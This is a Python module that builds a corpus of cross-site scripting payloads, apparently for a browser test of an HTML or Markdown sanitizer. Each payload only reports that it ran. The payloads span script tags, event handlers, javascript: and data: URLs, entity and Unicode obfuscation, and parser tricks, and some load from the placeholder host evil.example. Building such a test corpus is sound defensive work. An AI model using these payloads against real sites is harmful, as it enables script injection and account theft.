"""A corpus of cross-site scripting payloads, each of which reports itself if it ever runs.

In a template, `{x}` is the JavaScript that reports the payload (`window.__xss('p001')`), `{id}` its id, `{b64}` the
report base64-encoded and `{ent}` it as decimal HTML entities. A few payloads instead set `document.title` to
`xss:<id>`, navigate away, or fetch from evil.example; the browser test watches for all of these, and for dialogs.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

EVIL = "https://evil.example"

_TEMPLATES: list[tuple[str, str]] = [
    # Script elements, in every spelling and context-breaking prefix.
    ("script", "<script>{x}</script>"),
    ("script", "<SCRIPT>{x}</SCRIPT>"),
    ("script", "<ScRiPt >{x}</sCrIpT >"),
    ("script", '<script src="data:text/javascript,{x}"></script>'),
    ("script", f'<script src="{EVIL}/{{id}}.js"></script>'),
    ("script", '<script type="module">{x}</script>'),
    ("script", "<scr<script>ipt>{x}</scr</script>ipt>"),
    ("script", "<<script>script>{x}<</script>/script>"),
    ("script", "</title><script>{x}</script>"),
    ("script", "</textarea><script>{x}</script>"),
    ("script", '"><script>{x}</script>'),
    ("script", "'><script>{x}</script>"),
    ("script", "</script><script>{x}</script>"),
    ("script", "<!--<script>--><script>{x}</script>"),
    ("script", '<noscript><p title="</noscript><script>{x}</script>">'),
    ("script", "<script>eval(atob('{b64}'))</script>"),
    ("script", "<script>document.title='xss:{id}'</script>"),
    ("script", "<svg><script>{x}</script></svg>"),
    ("script", '<svg><script href="data:,{x}"/></svg>'),
    ("script", '<math><mtext><table><mglyph><style><img src=x onerror="{x}">'),
    # Event handlers.
    ("handler", '<img src=x onerror="{x}">'),
    ("handler", "<img src=x onerror={x}>"),
    ("handler", '<IMG SRC=x OnErRoR="{x}">'),
    ("handler", '<img src="x" onerror  =  "{x}">'),
    ("handler", "<img/src=x/onerror={x}>"),
    ("handler", '<img src=x onerror="{ent}">'),
    ("handler", "<img src=x:x onerror=javascript:{x}>"),
    ("handler", "<img src=`x`onerror={x}>"),
    ("handler", '<img src=x onerror="document.title=`xss:{id}`">'),
    ("handler", '<body onload="{x}">'),
    ("handler", '<svg onload="{x}">'),
    ("handler", "<svg/onload={x}>"),
    ("handler", '<input autofocus onfocus="{x}">'),
    ("handler", '<details open ontoggle="{x}">'),
    ("handler", '<video><source onerror="{x}"></video>'),
    ("handler", '<audio src=x onerror="{x}">'),
    ("handler", '<iframe onload="{x}"></iframe>'),
    ("handler", '<marquee onstart="{x}">x</marquee>'),
    ("handler", '<div onmouseover="{x}" style="position:fixed;inset:0">x</div>'),
    ("handler", '<a onclick="{x}">click</a>'),
    ("handler", '<select autofocus onfocus="{x}"></select>'),
    ("handler", '<textarea autofocus onfocus="{x}"></textarea>'),
    ("handler", '<object data=x onerror="{x}"></object>'),
    ("handler", '<style onload="{x}"></style>'),
    ("handler", '<link rel=stylesheet href=x onerror="{x}">'),
    ("handler", '<img src=x onerror="{x}"'),
    ("handler", '<img """><script>{x}</script>">'),
    ("handler", "<img src=x onerror=\"\\u0077indow.__xss('{id}')\">"),
    # javascript:, vbscript: and data: URLs in Markdown links, references and autolinks.
    ("md-url", "[a](javascript:{x})"),
    ("md-url", "[a](JAVASCRIPT:{x})"),
    ("md-url", "[a](javascript&#58;{x})"),
    ("md-url", "[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{x})"),
    ("md-url", "[a](&#x6A;avascript:{x})"),
    ("md-url", "[a](&#0000106avascript:{x})"),
    ("md-url", "[a](jav&#x09;ascript:{x})"),
    ("md-url", "[a](java&Tab;script:{x})"),
    ("md-url", "[a](java&NewLine;script:{x})"),
    ("md-url", "[a](javascript%3A{x})"),
    ("md-url", "[a](<javascript:{x}>)"),
    ("md-url", "[a](\x01javascript:{x})"),
    ("md-url", "[a]( javascript:{x} )"),
    ("md-url", "[a](javascript://%0A{x})"),
    ("md-url", "[a](javascript:void({x}))"),
    ("md-url", '[a](javascript:{x} "t")'),
    ("md-url", "[a](java\u200bscript:{x})"),
    ("md-url", '[a](vbscript:msgbox("{id}"))'),
    ("md-url", "[a](data:text/html;base64,{b64html})"),
    ("md-url", "[a](data:text/html,<script>{x}</script>)"),
    ("md-url", "[a][r{id}]\n\n[r{id}]: javascript:{x}"),
    ("md-url", '[a][s{id}]\n\n[s{id}]: <javascript:{x}> "t"'),
    ("md-url", "<javascript:{x}>"),
    ("md-url", "<JavaScript:{x}>"),
    ("md-url", "<vbscript:{x}>"),
    ("md-url", "<data:text/html,<script>{x}</script>>"),
    ("md-url", "[![a](x)](javascript:{x})"),
    ("md-url", "*[a](javascript:{x})*"),
    ("md-url", "> [a](javascript:{x})"),
    ("md-url", "- [a](javascript:{x})"),
    # Markdown images (turned off) and attribute break-outs through link destinations and titles.
    ("md-image", "![a](javascript:{x})"),
    ("md-image", '![a](x" onerror="{x})'),
    ("md-image", "![a](data:image/svg+xml,<svg onload={x}>)"),
    ("md-image", f"![a]({EVIL}/{{id}}.png)"),
    ("md-attr", '[a](https://ok.example "title" onclick="{x}")'),
    ("md-attr", '[a](https://ok.example" onclick="{x})'),
    ("md-attr", "[a](https://ok.example'onmouseover='{x})"),
    ("md-attr", '[a](#" onclick="{x})'),
    ("md-attr", '<https://ok.example/"onmouseover="{x}">'),
    ("md-attr", '[a{id}]: https://ok.example "</a><script>{x}</script>"\n\n[a{id}]'),
    ("md-attr", '[a](mailto:"><script>{x}</script>)'),
    ("md-attr", "[<img src=x onerror={x}>](https://ok.example)"),
    ("md-attr", "[a](https://ok.example?<img src=x onerror={x}>)"),
    ("md-attr", '```" onmouseover="{x}\n<b>{id}</b>\n```'),  # the id in the code too: the info string is dropped
    ("md-attr", "```html\n<script>{x}</script>\n```"),
    ("md-attr", "`<script>{x}</script>`"),
    ("md-attr", "**<img src=x onerror={x}>**"),
    # Tags that carry URLs or load other documents.
    ("url-tag", '<a href="javascript:{x}">a</a>'),
    ("url-tag", '<a href="  javascript:{x}">a</a>'),
    ("url-tag", '<a href="jav&#x0A;ascript:{x}">a</a>'),
    ("url-tag", '<iframe src="javascript:{x}"></iframe>'),
    ("url-tag", "<iframe srcdoc=\"<script>parent.__xss('{id}')</script>\"></iframe>"),
    ("url-tag", '<object data="javascript:{x}"></object>'),
    ("url-tag", '<embed src="javascript:{x}">'),
    ("url-tag", '<embed src="data:image/svg+xml;base64,{b64svg}">'),
    ("url-tag", '<form action="javascript:{x}"><button>go</button></form>'),
    ("url-tag", '<form><button formaction="javascript:{x}">go</button></form>'),
    ("url-tag", '<meta http-equiv="refresh" content="0;url=javascript:{x}">'),
    ("url-tag", f'<meta http-equiv="refresh" content="0;url={EVIL}/{{id}}">'),
    ("url-tag", '<base href="javascript:{x}//">'),
    ("url-tag", '<svg><a xlink:href="javascript:{x}"><text y=20>x</text></a></svg>'),
    ("url-tag", '<svg><animate onbegin="{x}" attributeName=x dur=1s>'),
    ("url-tag", '<svg><set attributeName=onmouseover to="{x}">'),
    ("url-tag", '<math href="javascript:{x}">x</math>'),
    ("url-tag", '<svg><foreignObject><img src=x onerror="{x}"></foreignObject></svg>'),
    ("url-tag", '<table><td background="javascript:{x}">x</td></table>'),
    # Styles.
    ("style", '<div style="background:url(javascript:{x})">x</div>'),
    ("style", '<div style="width:expression({x})">x</div>'),
    ("style", "<style>@import 'javascript:{x}';</style>"),
    ("style", f"<style>*{{{{background:url('{EVIL}/{{id}}.png')}}}}</style>"),
    ("style", f"<p style=\"background:url('{EVIL}/{{id}}.png')\">x</p>"),
    # Raw-text and template elements whose contents parse differently.
    ("parser", "<xmp><img src=x onerror={x}></xmp>"),
    ("parser", "<template><img src=x onerror={x}></template>"),
    ("parser", '<noembed><img title="</noembed><img src=x onerror={x}>"></noembed>'),
    ("parser", '<textarea><img title="</textarea><img src=x onerror={x}>"></textarea>'),
    ("parser", '<title><img title="</title><img src=x onerror={x}>"></title>'),
    ("parser", '<a href="https://ok.example/"><a href="javascript:{x}">in</a></a>'),
    ("parser", "<<img src=x onerror={x}>>"),
    ("parser", '<img src="x\n" onerror="{x}">'),
    ("parser", "<div><img src=x onerror={x}</div>"),
    # Template-engine and double-decoding strings.
    ("template", "{{{{constructor.constructor('{x}')()}}}}"),
    ("template", "{{{{ {x} }}}}"),
    ("template", "${{{x}}}"),
    ("template", "<%= {x} %>"),
    ("template", "{{% autoescape off %}}<script>{x}</script>{{% endautoescape %}}"),
    ("template", "&lt;script&gt;{x}&lt;/script&gt;"),
    ("template", "&amp;lt;img src=x onerror={x}&amp;gt;"),
    ("template", "%3Cscript%3E{x}%3C/script%3E"),
    ("template", "\\u003cscript\\u003e{x}\\u003c/script\\u003e"),
    ("template", "\\x3cimg src=x onerror={x}\\x3e"),
    ("template", "</script><script>{x}</script><!--"),
    # Unicode: invisible, right-to-left, full-width and look-alike characters.
    ("unicode", "<scr\u200bipt>{x}</script>"),
    ("unicode", "\u202e<script>{x}</script>"),
    ("unicode", "\u2028<img src=x onerror={x}>"),
    ("unicode", "\uff1cscript\uff1e{x}\uff1c/script\uff1e"),
    ("unicode", "\uff1cimg src=x onerror={x}\uff1e"),
    ("unicode", "<\u017fcript>{x}</\u017fcript>"),
    ("unicode", "[a](j\u0430vascript:{x})"),
    ("unicode", "<img src=x on\u00aderror={x}>"),
    ("unicode", "\ufeff<svg onload={x}>"),
    ("unicode", '<a href="java\u2066script:{x}">a</a>'),
]


@dataclass(frozen=True)
class Payload:
    id: str
    kind: str
    text: str


def _entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _build() -> tuple[Payload, ...]:
    payloads = []
    for number, (kind, template) in enumerate(_TEMPLATES, start=1):
        pid = f"p{number:03d}"
        report = f"window.__xss('{pid}')"
        text = template.format(
            x=report,
            id=pid,
            b64=_b64(report),
            ent=_entities(report),
            b64html=_b64(f"<script>parent.__xss('{pid}')</script>"),
            b64svg=_b64(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"parent.__xss('{pid}')\"/>"),
        )
        payloads.append(Payload(pid, kind, text))
    return tuple(payloads)


PAYLOADS = _build()


def batches(limit: int, *, separator: str = "\n\n") -> list[str]:
    """The corpus packed into texts of at most `limit` characters, each payload whole and in its own paragraph."""
    texts: list[str] = []
    current = ""
    for payload in PAYLOADS:
        piece = payload.text if not current else separator + payload.text
        if current and len(current) + len(piece) > limit:
            texts.append(current)
            current = payload.text
        else:
            current += piece
    if current:
        texts.append(current)
    return texts
